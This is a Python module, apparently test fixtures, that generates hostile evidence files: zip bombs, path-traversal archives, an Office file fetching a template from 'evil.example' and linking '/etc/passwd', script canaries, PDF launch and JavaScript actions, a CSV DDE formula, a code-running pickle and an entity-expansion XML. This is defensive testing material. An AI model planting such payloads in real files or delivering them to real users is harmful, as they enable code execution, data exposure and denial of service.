"""Evidence files that bite whoever opens, unpacks or renders them; they are to be stored only."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

__all__ = ["hostile_files"]

_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(entries: Mapping[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED, 9)
    return held.getvalue()


def _bomb() -> bytes:
    """Thirty thousand times smaller than what it holds, three times over."""
    inner = _zip({"zeros": bytes(20_000_000)})
    middle = _zip({f"{n}.zip": inner for n in range(16)})
    return _zip({f"{n}.zip": middle for n in range(16)})


def _lying_bomb() -> bytes:
    """A zip that says it holds 4 GB where there are a few bytes."""
    raw = bytearray(_zip({"film.mp4": b"x" * 100}))
    at = raw.index(b"PK\x01\x02")
    raw[at + 24 : at + 28] = (0xFFFFFFF0).to_bytes(4, "little")
    return bytes(raw)


def _office(kind: str, target: str) -> bytes:
    """A Word or Excel file that fetches a template, a picture or a workbook from elsewhere."""
    relation = (
        f'<Relationships xmlns="{_RELS}"><Relationship Id="r1" Type="{_OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": relation.encode(),
            "word/_rels/settings.xml.rels": relation.encode(),
            "word/document.xml": b'<!DOCTYPE x [<!ENTITY a "aa">]><x>&a;</x>',
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        }
    )


def _picture_bomb() -> bytes:
    """A PNG that says it has 60,000 times 60,000 points."""
    size = (60_000).to_bytes(4, "big") * 2
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + size + b"\x08\x02\x00\x00\x00" + b"\x00" * 40


def hostile_files() -> dict[str, bytes]:
    """Content by name; each is small as it stands."""
    script = b"<script>window.canary=1;alert(1)</script>"
    return {
        "bomb.zip": _bomb(),
        "says-4-gb.zip": _lying_bomb(),
        "climbs.zip": _zip({"../../../../tmp/owned": b"x", "/etc/owned": b"x", "C:\\owned": b"x"}),
        "template.docx": _office("attachedTemplate", "http://evil.example/t.dotm"),
        "links.xlsx": _office("externalLinkPath", "file:///etc/passwd"),
        "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>",
        "page.html": b"<html>" + script + b"</html>",
        "script.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "launch.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj",
        "huge.png": _picture_bomb(),
        "jpeg-that-is-a-page.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + script,
        "laughs.xml": b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
        "formulas.csv": b'=cmd|" /C calc"!A0,+1+1\n',
        "pickle.pkl": b"cos\nsystem\n(S'touch owned'\ntR.",
        "shortcut.lnk": b"L\x00\x00\x00\x01\x14\x02\x00",
        "chat.eml": b"Content-Type: text/html\r\n\r\n" + script,
    }
